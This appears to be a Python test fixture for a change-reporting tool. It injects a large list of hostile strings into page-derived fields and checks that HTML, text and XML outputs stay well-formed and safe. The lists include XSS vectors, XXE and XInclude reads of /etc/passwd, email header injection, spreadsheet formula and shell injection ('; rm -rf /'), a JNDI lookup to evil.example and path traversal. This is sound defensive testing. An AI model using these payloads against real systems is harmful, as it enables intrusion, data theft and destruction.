"""What a hostile page could say, to be sent through every outlet.

`PAYLOADS` are put by `hostile_changes` into every field that comes off a page, and by
`hostile_site` into the names an owner may have copied from one. The checks hold for any outlet:
`check_html`, `check_text`, `check_xml`. An outlet's test asks that a hostile text makes the same
structure as a harmless one.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable
from dataclasses import replace
from datetime import date, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

from lxml import etree
from sample_changes import NOW, change, make_site

from ratewire.config import AnnounceSettings, Product, Site
from ratewire.model import (
    Alteration,
    Availability,
    Change,
    ChangeKind,
    ChangeState,
    Conditions,
    Evidence,
    Impact,
    Incident,
    Limit,
    Passage,
    Rate,
    Stage,
    StatedDate,
    Unit,
)

HARMLESS = "Harmless words"

_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- comment",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>",
    "]]]]><![CDATA[>",
    "<?xml version='1.0'?><x/>",
    "<?php system('id') ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&xxe;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;amp;",
    "<item><title>Forged</title></item>",
    "</title></entry><entry><title>Forged</title>",
    "</channel></rss>",
    "</td></tr></table><h1>Forged</h1>",
    "<del>never</del>",
    "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
]
_QUOTES = [
    '"',
    "'",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    'x" style="background:url(//evil.example)',
    "\\",
    '\\"',
    "\\u003cscript\\u003e",
    "'; DROP TABLE changes; --",
    '"}],"evil":[{"a":"',
    "</style><script>alert(1)</script>",
    "expression(alert(1))",
    "red;background:url(//evil.example)",
    "*/ body{display:none} /*",
]
_LINES = [
    "x\r\nBcc: evil@evil.example",
    "x\nBcc: evil@evil.example",
    "x\rBcc: evil@evil.example",
    "x\r\n\r\n<html>body</html>",
    "x\n\n.\nMAIL FROM:<evil@evil.example>",
    "x\r\n.\r\nRCPT TO:<evil@evil.example>",
    ".",
    "..",
    "\n.\n",
    "x%0d%0aBcc:evil@evil.example",
    "x\u2028Bcc: evil@evil.example",
    "x\u2029Bcc: evil@evil.example",
    "x\x85Bcc: evil@evil.example",
    "x\x0bBcc: evil@evil.example",
    "x\x0cBcc: evil@evil.example",
    "x\nContent-Type: text/html",
    "--=_boundary--",
    "From evil@evil.example Mon May  4 12:00:00 2026",
    "=?utf-8?q?x=0D=0ABcc:_evil@evil.example?=",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "=?iso-8859-1?q?=3Cscript=3E?=",
    "BEGIN:VCALENDAR\r\nBEGIN:VEVENT",
    "x\r\nATTENDEE:mailto:evil@evil.example",
]
_CONTROLS = [
    "\0",
    "nul\0inside",
    "bell\x07",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "back\x08\x08\x08space",
    "del\x7f",
    "\ufffe",
    "\uffff",
    "\ufeffbom",
    "right\u202eto left",
    "\u202dleft\u202c",
    "\u2066isolate\u2069",
    "\u200f\u200e\u061c",
    "zero\u200bwidth\u2060joiner",
    "soft\u00adhyphen",
    "tag\U000e0041\U000e0042",
    "private\ue000use",
    "lone\ud800surrogate",
    "\U0010ffff",
]
_FLOODS = [
    "😀" * 5000,
    "👩\u200d👩\u200d👧\u200d👦" * 2000,
    "Z" + "\u0337\u0338\u0321" * 3000,
    "x" * 1_000_000,
    "<b>" * 100_000,
    "&" * 100_000,
    " " * 100_000,
    "\n" * 100_000,
    "(" * 10_000,
    "a\u0300" * 50_000,
    "ﷺ" * 5_000,
]
_COMMANDS = [
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "%0A=1+1",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "//evil.example/x",
    "http://[::1",
    "https://acme.example\\@evil.example/",
    "https://user:pass@evil.example/",
    "::error file=x::forged",
    "::set-output name=x::y",
    "##vso[task.setvariable]x",
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "; rm -rf /",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://evil.example/x}",
    "%s%s%s%n",
    "{0.__class__}",
    "[bold red]markup[/]",
    "[link=file:///etc/passwd]x[/link]",
    "![x](//evil.example/x.png)",
    "[x](javascript:alert(1))",
    "../../../../etc/passwd",
    "CON",
    "__proto__",
]
PAYLOADS: dict[str, str] = {
    f"{group}-{number}": text
    for group, texts in (
        ("markup", _MARKUP),
        ("quotes", _QUOTES),
        ("lines", _LINES),
        ("controls", _CONTROLS),
        ("floods", _FLOODS),
        ("commands", _COMMANDS),
    )
    for number, text in enumerate(texts)
}


def hostile_site(text: str, root: Path = Path("/nowhere"), **announce: object) -> Site:
    """A site whose title, products and sources are named so, wherever names may be free text."""
    kinds = tuple(kind.value for kind in ChangeKind)
    settings = AnnounceSettings(**{"immediate": kinds, **announce})  # type: ignore[arg-type]
    site = make_site(root, announce=settings)
    return replace(
        site,
        settings=replace(site.settings, title=text, author=text, description=text),
        sources=tuple(replace(each, name=text, publisher=text) for each in site.sources),
        products=(*site.products, Product("named", text, text)),
        meters={"image.output": text},
    )


def hostile_changes(text: str) -> tuple[Change, ...]:
    """A change of each kind, with the text in every field that comes off a page."""
    evidence = Evidence(text, text)

    def rate(product: str = text, meter: str = "input", amount: str = "2") -> Rate:
        return Rate(
            product, meter, Decimal(amount), text, Unit(Decimal(1), (text,)),
            Conditions.of({text: text, "tier": text, "size": text, "effective_from": text}),
            qualifier=text, label=text, evidence=evidence,
        )  # fmt: skip

    listed = Availability(
        text, Stage.AVAILABLE, replacement=text, exceptions=text, regions=(text, text),
        label=text, evidence=evidence,
    )  # fmt: skip
    leaving = replace(listed, stage=Stage.RETIRED, shutdown_on=StatedDate(date(2026, 6, 1)))
    limit = Limit(text, text, Decimal(5), text, text, evidence=evidence)
    incident = Incident(text, text, Impact.MAJOR, NOW, components=(text,), url=text)
    passage = Passage(text, f"{text} before", evidence=evidence)
    dear = rate(amount="3")
    known = rate("named", "image.output")
    steps = (
        (Alteration(ChangeKind.RATE_UP, rate(), dear, Decimal(50)),),
        (Alteration(ChangeKind.RATE_DOWN, dear, rate(), Decimal(-33)),),
        (Alteration(ChangeKind.ADDED, None, known),),
        (Alteration(ChangeKind.REMOVED, rate(), None), Alteration(ChangeKind.REMOVED, known, None)),
        (Alteration(ChangeKind.UNIT, rate(), replace(dear, unit=Unit.of("image"))),),
        (Alteration(ChangeKind.RENAMED, rate(), replace(rate(), label=f"{text} 2")),),
        (Alteration(ChangeKind.AVAILABILITY, listed, leaving),),
        (Alteration(ChangeKind.LIMIT, limit, replace(limit, amount=None)),),
        (Alteration(ChangeKind.SCHEDULED, rate(), dear),),
        (Alteration(ChangeKind.INCIDENT, None, incident),),
        (Alteration(ChangeKind.PASSAGE, passage, replace(passage, text=text)),),
    )
    changes = tuple(
        change(f"h{number:02}", *some, at=NOW - timedelta(minutes=number), url=text, note=text)
        for number, some in enumerate(steps)
    )
    ends = (ChangeState.CORRECTED, ChangeState.RETRACTED)
    later = tuple(
        change(
            f"{first.id}-{end}", *(first.alterations if end is ChangeState.CORRECTED else ()),
            at=NOW + timedelta(hours=1), state=end, note=text, follows=first.id, kind=first.kind,
        )
        for first, end in zip(changes, ends, strict=False)
    )  # fmt: skip
    return changes + later


# ── Checks ───────────────────────────────────────────────────────────────────────────────────


def check_text(text: str) -> None:
    """No control, direction override, surrogate or other invisible character but line ends."""
    deceiving = {
        char
        for char in text
        if unicodedata.category(char)[0] == "C" and char not in "\n\u200c\u200d"
    }
    assert not deceiving, f"{[hex(ord(char)) for char in deceiving]}"


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    unknown_decl = handle_pi = handle_comment


def check_html(markup: str, tags: Iterable[str], attributes: Iterable[str]) -> list[str]:
    """Only these tags and attributes, links to web pages only; returns the tags in their order."""
    page = _Page()
    page.feed(markup)
    page.close()
    assert not page.others
    assert {tag for tag, _ in page.elements} <= set(tags)
    for tag, attrs in page.elements:
        assert set(attrs) <= set(attributes), tag
        assert (attrs.get("href") or "https://").startswith(("https://", "http://"))
        assert "evil.example" not in (attrs.get("style") or "")
    check_text("".join(markup.split("\r")))
    return [tag for tag, _ in page.elements]


def check_xml(body: bytes) -> list[str]:
    """Well-formed, without entities or instructions; returns the elements' names in order."""
    parser = etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=False)
    tree = etree.fromstring(body, parser)
    assert tree.getroottree().docinfo.internalDTD is None
    assert all(isinstance(node.tag, str) for node in tree.iter())
    for node in tree.iter():
        for text in (node.text, *node.attrib.values()):
            check_text(text or "")
    return [str(node.tag) for node in tree.iter()]
